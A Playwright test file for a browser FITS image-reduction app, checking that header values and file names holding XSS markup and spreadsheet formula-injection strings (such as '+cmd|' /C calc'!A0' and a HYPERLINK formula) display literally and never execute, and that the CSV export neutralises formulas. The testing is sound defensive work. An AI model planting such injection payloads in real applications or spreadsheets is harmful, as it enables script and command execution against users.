/**
 * Header strings are data. Headers holding markup, script, quotes, control
 * bytes, very long values and spreadsheet formulas are shown literally
 * wherever they appear (library table and its tooltips, header viewer,
 * inspector, calibrations, runs, the night-quality chart, product headers and
 * the CSV export), and nothing in them runs: no dialog opens, no element is
 * made from them, and the flag the payloads would set stays unset. The CSV is
 * read back by Python's csv module and the products by astropy and
 * fitsverify, not by our own code.
 */
import { execFileSync } from 'node:child_process';
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { expect, test, type Page } from '@playwright/test';
import { parseFits, writeFits, type Card } from '../src/core/fits';
import { formatCard } from '../src/core/fits/cardFormat';
import { simulateNight } from '../src/core/demo/simulate';
import { frameCards } from '../src/core/demo/headers';
import { fileURLToPath } from 'node:url';
import { FIXTURES, dropPayload, fileRows, waitForRows } from './helpers';

const HERE = path.dirname(fileURLToPath(import.meta.url));

/** Every payload bumps this window property if it ever runs. */
const RUN = 'window.__pwned=(window.__pwned||0)+1';
const OBJECT = `<script>${RUN}</script><img src=x onerror="${RUN}">'single' "double" &amp; &lt;b&gt;`;
const FILTER = `<b>V</b><img src=x onerror=${RUN}>&lt;`;
const FORMULA = '=HYPERLINK("http://example.invalid/?"&A1,"click")';
const PLUS = "+cmd|' /C calc'!A0";
const MINUS = '-2+3+cmd|x';
const AT = '@SUM(1+1)*cmd';
const LONG = `<script>${RUN}</script> a very long object name `.repeat(40).trim();
/** Bytes 0x07, 0x1b, 0x7f, 0xe9 and a tab patched into the file; FITS allows only 32-126, so each reads as '?' (astropy warns about them too). */
const CTRL_SHOWN = 'CTRL?????';

const b64 = (bytes: Uint8Array) => Buffer.from(bytes).toString('base64');
const image = (w: number, h: number) => Uint16Array.from({ length: w * h }, (_, i) => 1000 + (i % 7));

function libraryFiles(): { name: string; b64: string }[] {
  const light = (object: string, more: Card[] = []): Card[] => [
    { key: 'IMAGETYP', value: 'Light Frame' },
    { key: 'OBJECT', value: object },
    { key: 'FILTER', value: FILTER },
    { key: 'EXPTIME', value: 30 },
    { key: 'DATE-OBS', value: '2026-03-14T01:00:00' },
    { key: 'INSTRUME', value: FORMULA },
    { key: 'DETECTOR', value: PLUS },
    ...more,
  ];
  const files = [
    { name: 'hostile_markup.fits', bytes: writeFits([{ cards: light(OBJECT, [{ key: 'OBSERVER', value: AT, comment: '<img src=x onerror=alert(2)>' }]), width: 8, height: 8, data: image(8, 8) }]) },
    { name: 'hostile_long.fits', bytes: writeFits([{ cards: light(LONG), width: 8, height: 8, data: image(8, 8) }]) },
  ];
  // Control bytes cannot be written by our writer (it keeps to printable ASCII), so patch them in.
  const ctrl = writeFits([{ cards: light('CTRL#####', [{ key: 'OBSERVER', value: MINUS }]), width: 8, height: 8, data: image(8, 8) }]);
  const at = Buffer.from(ctrl).indexOf('CTRL#####') + 4;
  ctrl.set([0x07, 0x1b, 0x7f, 0xe9, 0x09], at);
  files.push({ name: 'hostile_ctrl.fits', bytes: ctrl });
  // Extension names are shown by the inspector's image picker and readout.
  files.push({
    name: 'hostile_mef.fits',
    bytes: writeFits([
      { cards: [{ key: 'OBJECT', value: OBJECT }] },
      { cards: [], extname: `<img src=x onerror=${RUN}>`, width: 8, height: 8, data: image(8, 8) },
      { cards: [], extname: `"A" & 'B' <i>`, width: 8, height: 8, data: image(8, 8) },
    ]),
  });
  files.push({ name: 'hostile_header.fits', bytes: new Uint8Array(readFileSync(path.join(FIXTURES, 'hostile_header.fits'))) });
  return files.map((f) => ({ name: f.name, b64: b64(f.bytes) }));
}

/** Dialogs and the payloads' flag: both must stay at zero through a test. */
function guard(page: Page) {
  const dialogs: string[] = [];
  page.on('dialog', (d) => { dialogs.push(d.message()); void d.dismiss(); });
  return {
    async check() {
      expect(dialogs).toEqual([]);
      expect(await page.evaluate(() => (window as unknown as { __pwned?: number }).__pwned)).toBeUndefined();
      // No element was made from header text anywhere in the document (the textContent checks catch other markup).
      expect(await page.locator('img[src="x"], script:not([src])').count()).toBe(0);
      expect(await page.locator('b', { hasText: /^V$/ }).count()).toBe(0);
    },
  };
}

const row = (page: Page, name: string) => fileRows(page).filter({ has: page.locator('.col-name', { hasText: name }) });

/** Python's csv module (RFC 4180) reads the export: the reference, not our own parsing. */
function readCsv(file: string): string[][] {
  const out = execFileSync('/usr/bin/python3', ['-c', 'import csv,json,sys; print(json.dumps(list(csv.reader(open(sys.argv[1], newline="", encoding="utf-8")))))', file], { encoding: 'utf8' });
  return JSON.parse(out) as string[][];
}

test('hostile header text is shown literally in the library, header viewer, inspector and CSV, and runs nothing', async ({ page }) => {
  await page.goto('/');
  const g = guard(page);
  await dropPayload(page, libraryFiles());
  await waitForRows(page, 5);

  // Table cells and their tooltips hold the values as text.
  for (const [name, object] of [['hostile_markup.fits', OBJECT], ['hostile_long.fits', LONG], ['hostile_ctrl.fits', CTRL_SHOWN]]) {
    const r = row(page, name);
    await expect(r.locator('.col-object')).toHaveText(object, { useInnerText: false });
    expect(await r.locator('.col-object').evaluate((td) => td.textContent)).toBe(object);
    await expect(r.locator('.col-object [title]')).toHaveAttribute('title', object);
    expect(await r.locator('.col-filter').evaluate((td) => td.textContent)).toBe(FILTER);
    await expect(r.locator('.col-filter [title]')).toHaveAttribute('title', FILTER);
    expect(await r.locator('.col-instrument').evaluate((td) => td.textContent)).toBe(FORMULA);
    await expect(r.locator('.col-instrument [title]')).toHaveAttribute('title', FORMULA);
  }
  expect(await row(page, 'hostile_header.fits').locator('.col-object').evaluate((td) => td.textContent)).toBe('<img src=x onerror=alert(1)>');
  expect(await row(page, 'hostile_header.fits').locator('.col-filter').evaluate((td) => td.textContent)).toBe(`r' & "quoted"`);
  // The unprintable bytes are named with the file (astropy warns about them too).
  await expect(row(page, 'hostile_ctrl.fits').locator('.col-status')).toContainText(/not printable|unprintable|printable ASCII/i);
  await g.check();

  // The header viewer shows the cards as text: exactly the lines of the cards.
  const text = page.getByTestId('header-text');
  for (const [name, object] of [['hostile_markup.fits', OBJECT], ['hostile_long.fits', LONG], ['hostile_ctrl.fits', CTRL_SHOWN]]) {
    await row(page, name).locator('.col-name').click();
    await expect(text).toContainText('IMAGETYP');
    const shown = await text.evaluate((pre) => pre.textContent ?? '');
    for (const line of formatCard({ key: 'OBJECT', value: object })) expect(shown, name).toContain(line);
    for (const line of formatCard({ key: 'INSTRUME', value: FORMULA })) expect(shown, name).toContain(line);
    expect(await text.locator('*:not(div):not(mark)').count()).toBe(0);
  }
  await row(page, 'hostile_markup.fits').locator('.col-name').click();
  await expect(text).toContainText(formatCard({ key: 'OBSERVER', value: AT, comment: '<img src=x onerror=alert(2)>' })[0].trimEnd());
  await g.check();

  // The CSV: every value the table has, as text; formulas neutralised with a leading apostrophe (OWASP).
  const download = page.waitForEvent('download');
  await page.getByRole('button', { name: 'Export CSV' }).click();
  const csv = readCsv((await (await download).path())!);
  const head = csv[0];
  const byName = new Map(csv.slice(1).map((r) => [r[head.indexOf('name')], r]));
  const col = (name: string, c: string) => byName.get(name)![head.indexOf(c)];
  expect(byName.size).toBe(5);
  expect(col('hostile_markup.fits', 'object')).toBe(OBJECT);
  expect(col('hostile_long.fits', 'object')).toBe(LONG);
  expect(col('hostile_ctrl.fits', 'object')).toBe(CTRL_SHOWN);
  expect(col('hostile_header.fits', 'filter')).toBe(`r' & "quoted"`);
  for (const name of ['hostile_markup.fits', 'hostile_long.fits', 'hostile_ctrl.fits']) {
    expect(col(name, 'filter')).toBe(FILTER);
    expect(col(name, 'instrument')).toBe(`'${FORMULA}`);
    expect(col(name, 'detector')).toBe(`'${PLUS}`);
  }
  for (const r of csv) for (const c of r) expect(c, 'no cell a spreadsheet would run').not.toMatch(/^[=+\-@\t\r]/);

  // The inspector: extension names in the image picker and the readout, the header tab as text.
  await row(page, 'hostile_mef.fits').dblclick();
  const picker = page.getByRole('combobox', { name: 'Image' });
  await expect(picker).toBeVisible({ timeout: 30_000 });
  const options = await picker.locator('option').evaluateAll((os) => os.map((o) => o.textContent));
  expect(options).toEqual([`[1] <img src=x onerror=${RUN}> 8×8`, `[2] "A" & 'B' <i> 8×8`]);
  await expect(page.locator('.ro-file')).toHaveText(`hostile_mef.fits [1] <img src=x onerror=${RUN}>`);
  await picker.selectOption({ index: 1 });
  await expect(page.locator('.ro-file')).toHaveText(`hostile_mef.fits [2] "A" & 'B' <i>`);
  await page.getByRole('tab', { name: 'Header' }).click();
  const inspectorHeader = page.getByTestId('header-text');
  await expect(inspectorHeader).toContainText(`EXTNAME = '"A" & ''B'' <i>'`);
  await g.check();
});

/** A file name with markup, a quote and non-ASCII letters; FITS headers hold it with '?' for each non-ASCII letter. */
const HOSTILE_NAME = `nuit d'été <b>x</b> &amp;.fits`;
const HOSTILE_NAME_IN_FITS = `nuit d'?t? <b>x</b> &amp;.fits`;

/** A small simulated night whose frames carry hostile OBJECT, FILTER, INSTRUME and OBSERVER. */
function hostileNight(): { name: string; b64: string; kind: string }[] {
  const files: { name: string; b64: string; kind: string }[] = [];
  const opts = { seed: 7, width: 256, height: 256, nBias: 3, nFlatPerFilter: 3, filters: ['V'], nSciencePerFilter: 2, nSecondTarget: 0 };
  simulateNight(opts, (frame, o) => {
    const cards = frameCards(frame.plan, o).map((c): Card => {
      if (c.key === 'OBJECT' && frame.plan.kind === 'science') return { ...c, value: OBJECT };
      if (c.key === 'FILTER') return { ...c, value: FILTER };
      if (c.key === 'INSTRUME') return { ...c, value: FORMULA };
      return c;
    });
    cards.push({ key: 'OBSERVER', value: LONG });
    // One input's file name is hostile too: it is shown in the library and recorded in the master's IMCMB cards.
    const name = frame.plan.kind === 'bias' && files.filter((f) => f.kind === 'bias').length === 1 ? HOSTILE_NAME : frame.plan.name;
    files.push({ name, kind: frame.plan.kind, b64: b64(writeFits([{ cards, width: frame.naxis1, height: frame.naxis2, data: frame.pixels }])) });
  });
  return files;
}

test('a night with hostile headers reduces; calibrations, runs, chart and product headers show them literally', async ({ page }) => {
  test.setTimeout(240_000);
  await page.goto('/');
  const g = guard(page);
  const night = hostileNight();
  await dropPayload(page, night.map(({ name, b64 }) => ({ name, b64 })));
  await waitForRows(page, night.length);

  await page.getByRole('tab', { name: 'Runs' }).click();
  await page.getByRole('button', { name: 'Reduce all' }).click();
  await expect(page.getByRole('status').filter({ hasText: 'Reduction complete' })).toBeVisible({ timeout: 200_000 });
  await g.check();

  // Run labels name the stack's object and filter, and the flat's filter and instrument, as text and in their tooltips.
  const labels = await page.locator('.plan-table td.c-label').evaluateAll((tds) => tds.map((td) => ({ text: td.querySelector('button')?.textContent, title: td.getAttribute('title') })));
  const stack = labels.find((l) => l.text?.startsWith('Stack '));
  expect(stack?.text).toBe(`Stack ${OBJECT} ${FILTER} (2 frames)`);
  expect(stack?.title).toBe(stack?.text);
  const flat = labels.find((l) => l.text?.includes(FILTER) && !l.text.startsWith('Stack '));
  expect(flat?.text).toContain(FORMULA);
  expect(flat?.title).toBe(flat?.text);

  // The night-quality chart: the filter is the legend's text, not markup.
  const chart = page.getByRole('img', { name: /Night quality of 2 reduced frames/ });
  await expect(chart.locator('.scatterlayer .point')).toHaveCount(6, { timeout: 30_000 });
  const legend = await chart.locator('.legend .legendtext').evaluateAll((ts) => ts.map((t) => t.textContent));
  expect(legend).toEqual([FILTER]);
  // The hover label names the filter the same way.
  await chart.locator('.scatterlayer .point').first().hover({ force: true });
  await expect(chart.locator('.hoverlayer .hovertext .name')).toHaveCount(1);
  expect(await chart.locator('.hoverlayer .hovertext .name').evaluate((n) => n.textContent)).toBe(FILTER);
  await g.check();

  // A reduced product's header: OBJECT, FILTER, INSTRUME and the long OBSERVER carried over, read back by astropy.
  const productName = night.find((f) => f.kind === 'science')!.name.replace(/\.fits$/, '_reduced.fits');
  const download = page.waitForEvent('download');
  await page.getByRole('button', { name: `Download ${productName}` }).click();
  const dir = mkdtempSync(path.join(tmpdir(), 'hostile-'));
  try {
    const file = path.join(dir, productName!);
    writeFileSync(file, readFileSync((await (await download).path())!));
    const cards = parseFits(new Uint8Array(readFileSync(file)), productName!).hdus[0].cards;
    expect(cards.find((c) => c.key === 'OBJECT')?.value).toBe(OBJECT);
    // CFITSIO (the reference FITS library) reads every value back exactly.
    const cfitsio = JSON.parse(execFileSync('/usr/bin/python3', [path.join(HERE, 'reference/cfitsio_keys.py'), file, 'OBJECT', 'FILTER', 'INSTRUME', 'OBSERVER'], { encoding: 'utf8' }));
    expect(cfitsio).toEqual({ status: 0, values: { OBJECT, FILTER, INSTRUME: FORMULA, OBSERVER: LONG } });
    // astropy opens it and agrees, but for OBJECT: its 5.2.1 drops text after a '' followed by a space in a
    // CONTINUE'd string (astropy issue 14581, fixed by PR 14598), so OBJECT is checked against CFITSIO only.
    const script = 'import json,sys\nfrom astropy.io import fits\nh=fits.getheader(sys.argv[1],0)\nprint(json.dumps({k:h[k] for k in ("FILTER","INSTRUME","OBSERVER")}))';
    const astropy = JSON.parse(execFileSync('/usr/bin/python3', ['-c', script, file], { encoding: 'utf8' })) as Record<string, string>;
    expect(astropy).toEqual({ FILTER, INSTRUME: FORMULA, OBSERVER: LONG });
    const verify = execFileSync('fitsverify', [file], { encoding: 'utf8' });
    expect(verify).toMatch(/Verification found 0 warning\(s\) and 0 error\(s\)/);
  } finally {
    rmSync(dir, { recursive: true, force: true });
  }

  // The hostile file name: literal in the library, and in the master bias's IMCMB cards as printable ASCII.
  await page.getByRole('tab', { name: 'Library' }).click();
  const nameCell = row(page, HOSTILE_NAME).locator('.name-text');
  await expect(nameCell).toBeVisible();
  expect(await nameCell.evaluate((n) => n.textContent)).toBe(HOSTILE_NAME);
  await expect(nameCell).toHaveAttribute('title', HOSTILE_NAME);
  const biasName = night.find((f) => f.kind === 'bias')!.name.replace(/\.fits$/, '_bias.fits');
  await page.getByRole('tab', { name: 'Runs' }).click();
  const biasDownload = page.waitForEvent('download');
  await page.getByRole('button', { name: `Download ${biasName}` }).click();
  const dir2 = mkdtempSync(path.join(tmpdir(), 'hostile-'));
  try {
    const file = path.join(dir2, biasName);
    writeFileSync(file, readFileSync((await (await biasDownload).path())!));
    const cfitsio = JSON.parse(execFileSync('/usr/bin/python3', [path.join(HERE, 'reference/cfitsio_keys.py'), file, 'IMCMB001', 'IMCMB002', 'IMCMB003'], { encoding: 'utf8' })) as { status: number; values: Record<string, string> };
    expect(cfitsio.status).toBe(0);
    expect(Object.values(cfitsio.values)).toContain(HOSTILE_NAME_IN_FITS);
    expect(execFileSync('fitsverify', [file], { encoding: 'utf8' })).toMatch(/Verification found 0 warning\(s\) and 0 error\(s\)/);
  } finally {
    rmSync(dir2, { recursive: true, force: true });
  }
  await g.check();

  // The calibrations view lists each frame with its filter and object, as text.
  await page.getByRole('tab', { name: 'Calibrations' }).click();
  await expect(page.getByRole('heading', { name: 'Frames and their calibrations' })).toBeVisible();
  const meta = page.locator('tr.cal-row').first();
  await expect(meta).toBeVisible();
  const all = await page.locator('main').evaluate((m) => m.textContent ?? '');
  expect(all).toContain(`filter ${FILTER}`);
  expect(all).toContain(OBJECT);
  await g.check();
});
